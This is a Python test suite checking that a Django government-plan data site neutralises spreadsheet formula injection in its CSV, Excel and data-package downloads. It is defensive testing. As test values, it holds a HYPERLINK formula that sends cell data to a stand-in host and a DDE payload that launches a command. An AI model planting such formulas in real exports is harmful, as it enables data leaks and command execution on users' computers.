"""Downloads never carry a live spreadsheet formula (issue 7, defect 2).

A text that starts with = + - @, a tab or a carriage return goes out with a `'` in front
(OWASP's advice against CSV injection), in the page downloads (CSV and Excel) and in the
data package; numbers stay numbers.
"""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from dream.core.spreadsheets import FORMULA_TRIGGERS, formula_safe
from dream.digital.models import DigitalGoal
from dream.indicators.models import Indicator
from dream.ingest.models import Finding
from dream.opendata.services import datapackage_export
from dream.plans.choices import PlanLevel
from dream.plans.models import Task
from dream.search.services import search_index_rebuild

pytestmark = pytest.mark.usefixtures("plan_2024")

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"x")'


@pytest.fixture
def hostile_task(db):
    """The first practical task of the ministries' plan, its name and printed budget
    replaced by a formula (the page shows the name after its code; the printed budget
    goes out as it is)."""
    task = Task.objects.filter(plan__level=PlanLevel.SECTORAL, kind="practical").order_by("pk")[0]
    task.name = task.national_budget_text = FORMULA
    task.save(update_fields=["name", "national_budget_text"])
    return task


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.3%p", "'-0.3%p"),
        # A plain signed number (or a lone sign, printed for "none") cannot be a formula.
        ("-3.5", "-3.5"),
        ("- 1.1", "- 1.1"),
        ("+1,234", "+1,234"),
        ("-", "-"),
        # A text that already starts with ' and a trigger gets one more, so that removing
        # the first ' always gives the original back.
        ("'=x", "''=x"),
        ("''=x", "'''=x"),
        ("'-3.5", "''-3.5"),
        ("'지역디지털혁신협의회' 출범", "'지역디지털혁신협의회' 출범"),
        ("서울 = 1", "서울 = 1"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text, expected):
    assert formula_safe(text) == expected


@pytest.mark.parametrize("number", [-3, -3.5, Decimal("-1E+5"), 0, None, True])
def test_numbers_and_other_values_are_never_changed(number):
    assert formula_safe(number) is number


def unquoted(text: str) -> str:
    """What a reader of our files does (docs/opendata.md): remove the first ' of a text
    that is one or more ' and then a trigger."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


@settings(max_examples=500, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.,% aA(|!"), max_size=8) | st.text())
def test_quoting_is_safe_and_stripping_one_quote_gives_the_text_back(text):
    quoted = formula_safe(text)

    assert unquoted(quoted) == text
    assert quoted == text or quoted == "'" + text
    assert not quoted.startswith(FORMULA_TRIGGERS) or not re.search(r"[^\d,.% +-]", quoted)


def test_a_formula_task_name_downloads_as_quoted_text_in_csv(client, hostile_task):
    rows = csv_rows(client.get(reverse("web:sectoral"), {"_export": "csv"}))

    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_a_formula_task_name_downloads_as_a_string_cell_in_excel(client, hostile_task):
    cells = xlsx_cells(client.get(reverse("web:sectoral"), {"_export": "xlsx"}))

    printed = [c for c in cells if isinstance(c.value, str) and c.value.endswith(FORMULA)]
    assert ("'" + FORMULA, "s") in [(c.value, c.data_type) for c in printed]
    assert not [c for c in cells if c.data_type == "f"]


def test_numbers_stay_numeric_cells_in_the_excel_download(client, hostile_task):
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("web:sectoral"), {"_export": "xlsx"}).content)
    ).active
    headers = [cell.value for cell in sheet[1]]
    budgets = [row[headers.index("국비(억원)")] for row in sheet.iter_rows(min_row=2)]

    assert any(isinstance(cell.value, int) for cell in budgets)
    assert all(cell.data_type == "n" for cell in budgets)


def test_a_formula_indicator_name_downloads_quoted_from_a_province_page(client, db):
    indicator = Indicator.objects.filter(plan__owner__short_name="부산").order_by("pk")[0]
    indicator.name = "@" + FORMULA[1:]
    indicator.save(update_fields=["name"])
    url = reverse("web:province_detail", args=["부산"])

    rows = csv_rows(client.get(url, {"table": "indicators", "_export": "csv"}))
    cells = xlsx_cells(client.get(url, {"table": "indicators", "_export": "xlsx"}))

    assert ["'@" + FORMULA[1:]] == [c for row in rows for c in row if FORMULA[1:] in c]
    quoted = [c for c in cells if isinstance(c.value, str) and FORMULA[1:] in c.value]
    assert [(c.value, c.data_type) for c in quoted] == [("'@" + FORMULA[1:], "s")]


def test_a_formula_finding_downloads_quoted_from_the_findings_page(client, db):
    finding = Finding.objects.order_by("pk")[0]
    finding.message = "-" + FORMULA[1:]
    finding.save(update_fields=["message"])

    rows = csv_rows(client.get(reverse("web:findings"), {"_export": "csv"}))

    assert ["'-" + FORMULA[1:]] == [c for row in rows for c in row if FORMULA[1:] in c]


def test_a_formula_task_name_is_quoted_in_the_search_download(client, hostile_task):
    hostile_task.name = "=블록체인 HYPERLINK"
    hostile_task.save(update_fields=["name"])
    search_index_rebuild(year=hostile_task.plan.year)
    rows = csv_rows(client.get(reverse("search:search"), {"q": "블록체인", "_export": "csv"}))

    assert "'=블록체인 HYPERLINK" in [cell for row in rows for cell in row]


def test_the_data_package_quotes_formula_text_and_keeps_numbers(tmp_path, hostile_task):
    datapackage_export(directory=tmp_path)
    with (tmp_path / "tasks.csv").open(encoding="utf-8-sig") as f:
        tasks = {row["task_id"]: row for row in csv.DictReader(f)}

    row = tasks[str(hostile_task.pk)]
    assert row["name"] == "'" + FORMULA
    assert row["national_budget_eok"] == str(hostile_task.national_budget_eok or "")
    assert all(not r["name"].startswith(("=", "+", "@")) for r in tasks.values())


def test_the_data_package_leaves_printed_signed_numbers_as_printed(tmp_path, db):
    datapackage_export(directory=tmp_path)
    with (tmp_path / "indicators.csv").open(encoding="utf-8") as f:
        changes = {row["change_text"] for row in csv.DictReader(f)}
    with (tmp_path / "tasks.csv").open(encoding="utf-8") as f:
        budgets = {row["national_budget_text"] for row in csv.DictReader(f)}

    assert {"- 1.1", "- 2,858", "-"} <= changes
    assert "-" in budgets


def test_a_formula_finding_is_a_string_cell_in_the_excel_download(client, db):
    finding = Finding.objects.order_by("pk")[0]
    finding.message = FORMULA
    finding.save(update_fields=["message"])

    cells = xlsx_cells(client.get(reverse("web:findings"), {"_export": "xlsx"}))

    assert [(c.value, c.data_type) for c in cells if c.value and FORMULA in str(c.value)] == [
        ("'" + FORMULA, "s")
    ]


def test_a_district_name_someone_typed_as_a_formula_downloads_as_text(client, register_district):
    """The registry is typed in by staff: user input, not the document."""
    register_district("부산", name=FORMULA, location="+82 부산", operator="@부산정보산업진흥원")
    url = reverse("districts:district_list")

    rows = csv_rows(client.get(url, {"_export": "csv"}))
    cells = xlsx_cells(client.get(url, {"_export": "xlsx"}))

    assert {"'" + FORMULA, "'+82 부산", "'@부산정보산업진흥원"} <= {c for row in rows for c in row}
    assert ("'" + FORMULA, "s") in [(c.value, c.data_type) for c in cells]
    assert not [c for c in cells if c.data_type == "f"]


def test_the_goal_values_template_quotes_a_formula_goal_name(client, db, digital_plan_2023):
    goal = DigitalGoal.objects.order_by("pk")[0]
    goal.name = FORMULA
    goal.save(update_fields=["name"])

    rows = csv_rows(client.get(reverse("tracking:goal_values_template")))

    assert [row[5] for row in rows if row[0] == goal.key] == ["'" + FORMULA]


def test_a_control_character_stored_in_a_text_does_not_break_the_excel_download(client, db):
    """Excel files cannot hold most control characters (a vertical tab pasted from a word
    processor, say): the download shows "\ufffd" there instead of failing."""
    Finding.objects.filter(pk=Finding.objects.order_by("pk")[0].pk).update(message="줄\x0b바꿈")

    response = client.get(reverse("web:findings"), {"_export": "xlsx"})
    csv_response = client.get(reverse("web:findings"), {"_export": "csv"})

    assert response.status_code == 200
    assert "줄\ufffd바꿈" in [c.value for c in xlsx_cells(response)]
    assert "줄\x0b바꿈" in [c for row in csv_rows(csv_response) for c in row]
